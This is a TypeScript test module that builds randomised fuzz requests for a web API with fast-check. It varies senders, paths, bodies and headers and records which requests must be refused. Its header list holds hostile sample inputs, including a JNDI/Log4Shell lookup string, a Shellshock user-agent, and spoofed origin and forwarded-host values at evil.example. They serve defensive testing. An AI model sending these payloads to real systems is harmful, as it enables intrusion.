import fc from 'fast-check';
import { can, type Role, ROLES } from '#domain/role';
import type { Operation } from './api-document';
import { arbitraryOf, HOSTILE, withForeignKey } from './arbitrary-of';

/** Who sends: somebody signed in, a system with a key, or nobody. */
export type Sender = Role | 'client' | 'nobody';
const SENDERS: readonly Sender[] = [...ROLES, 'client', 'nobody'];

export type FuzzRequest = {
  operation: Operation;
  sender: Sender;
  /** Path with its query. */
  path: string;
  body: string | undefined;
  headers: Record<string, string>;
  /** Why it cannot be granted whatever the state of things is; undefined when it may be. */
  mustRefuse: string | undefined;
};

/** Ids of what there is, by collection: `cases`, `contacts`, `units`. */
export type Ids = Record<string, readonly string[]>;

/** Costly by design (password hashing, training, the whole audit), or ending sessions: they come up this much more rarely. */
const RARE = 40;
const RARELY: readonly string[] = [
  ...['postSession', 'postSessionStepUp', 'putSessionPassword', 'postSessionSecondFactor', 'deleteSession'],
  ...['deleteSessions', 'postModels', 'postAuditEventsVerify', 'postUsers', 'postUsersIdResetPassword', 'getStream'],
];

const HEADERS: readonly Record<string, string>[] = [
  { 'content-type': 'text/plain' },
  { 'content-type': 'application/xml' },
  { 'content-type': 'application/json; charset=utf-16' },
  { 'content-encoding': 'gzip' },
  { 'x-forwarded-for': "8.8.8.8', '1" },
  { 'x-forwarded-proto': 'https', 'x-forwarded-host': 'evil.example' },
  { 'x-http-method-override': 'DELETE' },
  { origin: 'https://evil.example' },
  { 'sec-fetch-site': 'cross-site' },
  { authorization: 'Bearer ${jndi:ldap://evil.example/a}' },
  { 'user-agent': '() { :; }; echo' },
  { 'accept-language': 'x'.repeat(5_000) },
  { 'if-none-match': '*', range: 'bytes=0-1' },
];

const pathPart = (value: unknown): string =>
  encodeURIComponent((typeof value === 'string' ? value : JSON.stringify(value)).toWellFormed().slice(0, 3_000));

/** Whether somebody passes the door of an operation. */
export const isAllowed = ({ isOpen, isForClients, isForUsers, permission }: Operation, sender: Sender): boolean => {
  if (isOpen) return true;
  if (sender === 'nobody') return false;
  if (sender === 'client') return isForClients;
  return isForUsers && (permission === undefined || can({ role: sender, line: null }, permission));
};

/** Mostly those who may, so that requests get further than the door; everybody else too. */
const sendersOf = (operation: Operation): fc.Arbitrary<Sender> => {
  const allowed = SENDERS.filter((sender) => isAllowed(operation, sender));
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...(allowed.length > 0 ? allowed : SENDERS)) },
    { weight: 1, arbitrary: fc.constantFrom(...SENDERS) },
  );
};

function pathOf({ path, params, query }: Operation, ids: Ids): fc.Arbitrary<string> {
  const collection = /^\/v1\/([a-z-]+)\//.exec(path)?.[1] ?? '';
  const all = Object.values(ids).flat();
  const parts = Object.fromEntries(
    Object.entries(params).map(([name, schema]) => {
      const known = ids[name === 'id' ? collection : `${name}s`] ?? [];
      const usual = known.length > 0 ? fc.constantFrom(...known) : arbitraryOf(schema, all);
      return [name, fc.oneof({ weight: 12, arbitrary: usual }, { weight: 1, arbitrary: fc.constantFrom(...HOSTILE) })];
    }),
  );
  const asked = fc.record(
    Object.fromEntries(Object.entries(query).map(([name, schema]) => [name, arbitraryOf(schema, all)])),
    { requiredKeys: [] },
  );
  return fc.tuple(fc.record(parts), asked).map(([values, search]) => {
    const filled = path.replace(/\{(\w+)\}/g, (_, name: string) => pathPart((values as Record<string, unknown>)[name]));
    const pairs = Object.entries(search).map(([name, value]) => `${name}=${pathPart(value)}`);
    return pairs.length > 0 ? `${filled}?${pairs.join('&')}` : filled;
  });
}

type Body = { text: string | undefined; why?: string };

function bodyOf({ body, method }: Operation, ids: readonly string[]): fc.Arbitrary<Body> {
  const nothing = fc.constant<Body>({ text: undefined });
  if (!body) return method === 'GET' ? nothing : fc.oneof(nothing, fc.jsonValue().map(toBody));
  const good = arbitraryOf(body, ids);
  const unreadable = fc.constantFrom('{', '{"a":01}', '\u0000', '[[[['.repeat(3_000), 'a=b', '<xml/>');
  return fc.oneof(
    { weight: 12, arbitrary: good.map(toBody) },
    ...(body.additionalProperties === false
      ? [
          {
            weight: 2,
            arbitrary: withForeignKey(body, good).map((text) => ({ text, why: 'a field that nobody knows' })),
          },
        ]
      : []),
    { weight: 1, arbitrary: unreadable.map((text) => ({ text, why: 'a body that is no JSON' })) },
  );
}
const toBody = (value: unknown): Body => ({ text: JSON.stringify(value) });

function requestOf(operation: Operation, ids: Ids): fc.Arbitrary<FuzzRequest> {
  const headers = fc.oneof(
    { weight: 12, arbitrary: fc.constant({}) },
    { weight: 1, arbitrary: fc.constantFrom(...HEADERS) },
  );
  const body = bodyOf(operation, Object.values(ids).flat());
  return fc
    .tuple(sendersOf(operation), pathOf(operation, ids), body, headers)
    .map(([sender, path, { text, why }, extra]) => ({
      ...{ operation, sender, path, body: text },
      headers: { ...(text === undefined ? {} : { 'content-type': 'application/json' }), ...extra },
      mustRefuse: isAllowed(operation, sender) ? why : 'a sender who may not',
    }));
}

/** Requests that are made at once: few enough to hold, many enough to be quick. */
const PORTION = 1_000;

/** The same `count` requests for the same seed, document and ids. */
export function* planRequests(operations: Operation[], ids: Ids, seed: number, count: number): Generator<FuzzRequest> {
  const one = fc.oneof(
    ...operations.map((operation) => ({
      weight: RARELY.includes(operation.id) ? 1 : RARE,
      arbitrary: requestOf(operation, ids),
    })),
  );
  for (let made = 0; made < count; made += PORTION) {
    yield* fc.sample(one, { seed: seed + made, numRuns: Math.min(PORTION, count - made) });
  }
}
